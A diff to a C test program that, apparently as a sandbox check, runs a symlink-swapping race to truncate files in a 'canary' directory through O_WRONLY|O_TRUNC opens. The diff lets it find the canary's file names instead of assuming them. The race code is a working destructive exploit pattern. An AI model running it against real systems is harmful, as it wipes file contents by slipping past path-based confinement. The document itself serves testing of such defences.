@@ -1,8 +1,9 @@
-// attack: race: a thread swaps symlinks (dir link and final-component link) between decoy and canary while opening through them with O_WRONLY|O_TRUNC
-// Two shapes: open("race-l/a") where race-l flips between a decoy directory and the canary directory,
+// attack: race: a thread swaps symlinks (a directory link, and a final-component link) between decoy and canary while opening through them with O_WRONLY|O_TRUNC
+// Two shapes: open("race-l/NAME") where race-l flips between a decoy directory and the canary directory,
 // and open("race-f") where race-f itself flips between a decoy file and a canary file (the kernel
 // follows a final symlink on open, unlike unlink).
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
@@ -22,6 +23,18 @@
 static atomic_int stop;
 static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
 
+// The canary's regular files (top level), as names relative to it: the attack does not assume them.
+static int canary_files(const char *canary, char names[][256], int max) {
+    DIR *d = opendir(canary);
+    int n = 0;
+    struct dirent *e;
+    if (!d) { perror(canary); return 0; }
+    while (n < max && (e = readdir(d)))
+        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
+    closedir(d);
+    return n;
+}
+
 static void *flipper(void *arg) {
     (void)arg;
     while (!atomic_load(&stop)) {
@@ -36,11 +49,14 @@ static long sizeof_file(const char *p) { struct stat st; return stat(p, &st) == 
 int main(void) {
     const char *canary = getenv("CANARY");
     if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
-    char ca[4096], cb[4096];
-    snprintf(ca, sizeof ca, "%s/a", canary);
-    snprintf(cb, sizeof cb, "%s/b", canary);
+    char files[2][256], ca[4096], cb[4096], la[300], decoy[300];
+    if (canary_files(canary, files, 2) < 2) { fprintf(stderr, "fewer than 2 canary files\n"); return 2; }
+    snprintf(ca, sizeof ca, "%s/%s", canary, files[0]);
+    snprintf(cb, sizeof cb, "%s/%s", canary, files[1]);
+    snprintf(la, sizeof la, "race-l/%s", files[0]);
+    snprintf(decoy, sizeof decoy, "race-decoy/%s", files[0]);
     mkdir("race-decoy", 0755);
-    close(open("race-decoy/a", O_WRONLY | O_CREAT, 0644));
+    close(open(decoy, O_WRONLY | O_CREAT, 0644));
     close(open("race-decoy-file", O_WRONLY | O_CREAT, 0644));
     unlink("race-l"); unlink("race-l2"); unlink("race-f"); unlink("race-f2");
     printf("symlinks: race-l -> race-decoy %d, race-l2 -> canary %d, race-f -> race-decoy-file %d, race-f2 -> %s %d\n",
@@ -51,7 +67,7 @@ int main(void) {
     long tries = 0, ok = 0, counts[256] = {0};
     double deadline = now() + 4.0;
     while (now() < deadline && (sizeof_file(ca) > 0 || sizeof_file(cb) > 0)) {
-        const char *p = tries % 2 ? "race-f" : "race-l/a";
+        const char *p = tries % 2 ? "race-f" : la;
         int fd = open(p, O_WRONLY | O_TRUNC);
         tries++;
         if (fd >= 0) { ok++; write(fd, "", 0); close(fd); } else counts[errno & 255]++;
